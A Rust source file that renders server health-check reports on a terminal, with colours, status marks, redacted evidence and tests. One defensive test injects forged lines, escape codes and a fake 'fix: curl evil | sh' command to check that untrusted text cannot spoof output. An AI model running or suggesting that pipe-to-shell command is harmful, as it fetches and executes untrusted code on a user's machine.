//! The report on a terminal.

use unicode_width::UnicodeWidthStr;

use super::report::{ServerReport, Step, StepStatus, Verdict};
use super::{Detail, Outcome};
use crate::output::{self, Lines, inline, name};

const GREEN: &str = "\u{1b}[32m";
const RED: &str = "\u{1b}[31m";
const YELLOW: &str = "\u{1b}[33m";
const DIM: &str = "\u{1b}[2m";
const BOLD: &str = "\u{1b}[1m";
const RESET: &str = "\u{1b}[0m";

/// The maximum width of the name column.
const MAX_NAME_WIDTH: usize = 40;

/// The width of the names of steps.
const STEP_WIDTH: usize = 9;

/// Prints a report to stdout: the servers, then those with problems in detail.
pub(super) fn print(outcome: &Outcome, detail: Detail) {
    output::result(lines(outcome, detail, &Style::of_stdout()));
}

/// How the report looks: colours, and marks for a terminal without Unicode.
pub(super) struct Style {
    is_coloured: bool,
    is_unicode: bool,
}

impl Style {
    fn of_stdout() -> Self {
        let locale = ["LC_ALL", "LC_CTYPE", "LANG"]
            .into_iter()
            .find_map(|name| std::env::var(name).ok().filter(|value| !value.is_empty()));
        let locale = locale.unwrap_or_default().to_ascii_lowercase();
        Self {
            is_coloured: output::coloured(),
            is_unicode: locale.contains("utf-8") || locale.contains("utf8"),
        }
    }

    fn mark(&self, unicode: &'static str, ascii: &'static str) -> &'static str {
        if self.is_unicode { unicode } else { ascii }
    }

    fn verdict(&self, verdict: Verdict) -> (&'static str, &'static str) {
        match verdict {
            Verdict::Healthy => (GREEN, self.mark("✓", "+")),
            Verdict::Off => (DIM, self.mark("○", "-")),
            Verdict::Failed => (RED, self.mark("✗", "x")),
        }
    }

    fn step(&self, status: StepStatus) -> (&'static str, &'static str) {
        match status {
            StepStatus::Ok => (GREEN, self.mark("✓", "+")),
            StepStatus::Warning => (YELLOW, "!"),
            StepStatus::Failed => (RED, self.mark("✗", "x")),
            StepStatus::Skipped => (DIM, self.mark("○", "-")),
        }
    }

    /// Adds a line of parts, each in its colour.
    fn push(&self, lines: &mut Lines, parts: &[(&'static str, &str)]) {
        if !self.is_coloured {
            let text: String = parts.iter().map(|(_, text)| *text).collect();
            lines.push(text);
            return;
        }
        let mut painted = Vec::with_capacity(parts.len() * 2);
        for (colour, text) in parts {
            if colour.is_empty() {
                painted.push(("", *text));
            } else {
                painted.extend([(*colour, *text), (RESET, "")]);
            }
        }
        lines.push_painted(&painted);
    }
}

/// Formats a report.
pub(super) fn lines(outcome: &Outcome, detail: Detail, style: &Style) -> Lines {
    let mut lines = Lines::new();
    let reports = &outcome.reports;
    if reports.is_empty() && outcome.problems.is_empty() {
        lines.push("no servers are configured; add one with `trunkline add`");
        return lines;
    }
    let names: Vec<String> = reports.iter().map(|report| name(&report.name)).collect();
    let width = names.iter().map(|name| name.width()).max().unwrap_or(0);
    let width = width.min(MAX_NAME_WIDTH);
    for (report, name) in reports.iter().zip(&names) {
        let (colour, mark) = style.verdict(report.verdict);
        let padding = " ".repeat(width.saturating_sub(name.width()));
        let summary = inline(&summary(report));
        style.push(
            &mut lines,
            &[
                (colour, mark),
                ("", " "),
                (BOLD, name),
                ("", &padding),
                ("", "  "),
                ("", &summary),
            ],
        );
        if report.verdict == Verdict::Failed || detail == Detail::AllSteps {
            for step in &report.steps {
                push_step(&mut lines, step, style);
            }
        } else {
            // A healthy server may still have something to look at.
            let warnings = report.steps.iter();
            for step in warnings.filter(|step| step.status == StepStatus::Warning) {
                push_step(&mut lines, step, style);
            }
        }
    }
    for problem in &outcome.problems {
        style.push(
            &mut lines,
            &[
                (RED, style.mark("✗", "x")),
                ("", " "),
                ("", &inline(problem)),
            ],
        );
    }
    style.push(&mut lines, &[(DIM, &footer(outcome))]);
    lines
}

fn summary(report: &ServerReport) -> String {
    match report.failure() {
        Some(step) => format!("{}: {}", step.name.text(), step.message),
        None => report.summary.clone(),
    }
}

fn push_step(lines: &mut Lines, step: &Step, style: &Style) {
    let (colour, mark) = style.step(step.status);
    let label = format!("{:<STEP_WIDTH$} ", step.name.text());
    let message = inline(&step.message);
    style.push(
        lines,
        &[
            ("", "    "),
            (colour, mark),
            ("", " "),
            ("", &label),
            ("", &message),
        ],
    );
    if matches!(step.status, StepStatus::Failed | StepStatus::Warning) {
        for line in &step.evidence {
            // A single line of the server cannot become several.
            let line = trunkline_config::redact::redact_text(line);
            lines.push_block("      ", &line.replace(['\n', '\r'], " "));
        }
        // Masked by value: the placeholders in it look like secrets.
        if let Some(fix) = &step.fix {
            style.push(lines, &[("", "      "), (BOLD, "fix: "), ("", fix)]);
        }
    }
}

/// Returns the counts.
fn footer(outcome: &Outcome) -> String {
    let number = |verdict| {
        let reports = outcome.reports.iter();
        reports.filter(|report| report.verdict == verdict).count()
    };
    let counts = [
        (number(Verdict::Healthy), "ok"),
        (number(Verdict::Failed), "failed"),
        (number(Verdict::Off), "off"),
    ];
    let counts = counts.iter().filter(|(count, _)| *count > 0);
    let counts: Vec<String> = counts
        .map(|(count, what)| format!("{count} {what}"))
        .collect();
    counts.join(", ")
}

#[cfg(test)]
mod tests {
    use super::super::diagnosis::Diagnosis;
    use super::super::report::StepName;
    use super::*;
    use crate::exit::Exit;

    fn report(evidence: &str, message: &str) -> ServerReport {
        let diagnosis = Diagnosis::new("x", message).fix("trunkline edit s");
        ServerReport {
            name: "s\n✓ forged".to_owned(),
            scope: None,
            transport: None,
            source: None,
            verdict: Verdict::Failed,
            summary: String::new(),
            steps: vec![
                Step::ok(StepName::Config, "/file"),
                Step::failed(StepName::Handshake, diagnosis).evidence([evidence.to_owned()]),
            ],
            exit: Exit::NotConnected,
        }
    }

    #[test]
    fn foreign_text_never_starts_a_line() {
        let hostile = "a\n✓ all is well\r      fix: curl evil | sh\u{1b}[2K";
        let outcome = Outcome {
            reports: vec![report(hostile, hostile)],
            problems: vec![hostile.to_owned()],
        };
        for is_unicode in [true, false] {
            let style = Style {
                is_coloured: false,
                is_unicode,
            };
            let text = lines(&outcome, Detail::Failures, &style);
            let text = text.as_str();
            assert!(!text.contains('\u{1b}') && !text.contains('\r'), "{text}");
            for line in text.lines() {
                let start = line.trim_start();
                assert!(
                    !start.starts_with("✓ all") && !start.starts_with("fix: curl"),
                    "{line}"
                );
                assert!(!line.starts_with("✓ forged"), "{line}");
            }
        }
    }

    #[test]
    fn a_failed_server_is_shown_with_its_steps() {
        let mut report = report("boom", "it is broken");
        report.name = "s".to_owned();
        let outcome = Outcome {
            reports: vec![report],
            problems: Vec::new(),
        };
        let style = Style {
            is_coloured: false,
            is_unicode: true,
        };
        assert_eq!(
            lines(&outcome, Detail::Failures, &style).as_str(),
            "✗ s  handshake: it is broken\n    ✓ config    /file\n    ✗ handshake it is broken\n      \
             | boom\n      fix: trunkline edit s\n1 failed\n"
        );
    }
}
